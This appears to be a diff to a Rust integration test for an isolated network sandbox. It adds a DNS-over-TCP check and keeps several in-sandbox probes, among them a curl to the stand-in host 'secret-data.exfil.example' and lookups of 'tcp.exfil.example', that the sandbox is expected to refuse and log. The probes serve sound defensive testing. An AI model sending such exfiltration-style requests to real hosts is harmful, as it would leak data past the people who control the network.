@@ -10,12 +10,14 @@
 use crate::support::sandbox::{ORIGIN_NS, World, has, scenario};
 
 const DNS_PY: &str = include_str!("../support/dns.py");
+const DNSQ_PY: &str = include_str!("../support/dnsq.py");
 
 #[test]
 fn an_isolated_sandbox_reaches_only_what_the_rules_and_the_forwards_allow() {
     let w = World::new();
     let dns = w.root.join("bin/dns.py");
     std::fs::write(&dns, DNS_PY).unwrap();
+    std::fs::write(w.root.join("bin/dnsq.py"), DNSQ_PY).unwrap();
     let body = format!(
         r#"{ORIGIN_NS}export ON
         ip -n "$ON" addr add 192.0.2.2/24 dev ot$$
@@ -59,6 +61,7 @@ time.sleep(60)' ocsb-isolated-marker &
             echo ssh-like \$(python3 -c \"import socket; print(socket.create_connection((\\\"svc.example.test\\\", 2222), timeout=10).recv(64).decode().strip())\")
             echo k8s \$(curl --http0.9 -s --noproxy \"*\" --max-time 10 -H \"Host: kubernetes\" http://192.0.2.1:6443/)
             curl -s --noproxy \"*\" --max-time 10 http://secret-data.exfil.example/ >/dev/null; echo exfil-name \$?
+            echo dns-tcp \$(python3 {dnsq} 192.0.2.1 www.example.test) \$(python3 {dnsq} 192.0.2.1 tcp.exfil.example)
             curl -s --noproxy \"*\" --max-time 10 http://192.0.2.2/hello.txt >/dev/null; echo blocked-ip \$?
             curl -s --noproxy \"*\" --max-time 10 http://10.0.0.1/ >/dev/null; echo private-ip \$?
             curl -s --noproxy \"*\" --max-time 10 http://192.0.2.1:8080/ >/dev/null; echo other-port \$?
@@ -81,6 +84,7 @@ except OSError as e: print(\\\"udp\\\", errno.errorcode.get(e.errno, e))\"
         ip netns pids "$ON" | xargs -r kill; ip netns del "$ON"
         pkill -f ocsb-isolated-marker # last: this script's own command line names it too"#,
         dns = w.root.join("bin/dns.py").display(),
+        dnsq = w.root.join("bin/dnsq.py").display(),
     );
     let (out, err) = scenario(&w, &body);
     // Not the netlock group: the user's own, and nothing else.
@@ -93,6 +97,8 @@ except OSError as e: print(\\\"udp\\\", errno.errorcode.get(e.errno, e))\"
     // The address dialled has a `connect` rule: it wins over the name the client sent.
     has(&out, "k8s k8s-ok", &err);
     has(&out, "exfil-name 6", &err); // could not resolve: the stub refused the name
+    // DNS over TCP (what a client does with a truncated answer) reaches the same stub.
+    has(&out, "dns-tcp www.example.test 192.0.2.1 tcp.exfil.example rcode 5", &err);
     for refused in ["blocked-ip", "private-ip", "other-port"] {
         let line = out.lines().find(|l| l.starts_with(refused)).unwrap_or_default();
         assert!(
@@ -110,6 +116,7 @@ except OSError as e: print(\\\"udp\\\", errno.errorcode.get(e.errno, e))\"
     let queries = out.lines().find(|l| l.starts_with("queries:")).unwrap_or_default();
     assert!(queries.contains("www.example.test"), "{out}\n{err}");
     assert!(!queries.contains("exfil"), "a denied name left the machine: {queries}");
+    assert!(out.lines().any(|l| l.ends_with("DENY  000 DNS tcp.exfil.example rule=block:local:1")), "{out}");
     // The host side: each refusal in the filter's log with its rule and `file:line`.
     for line in [
         "DENY  000 DNS secret-data.exfil.example rule=block:local:1",
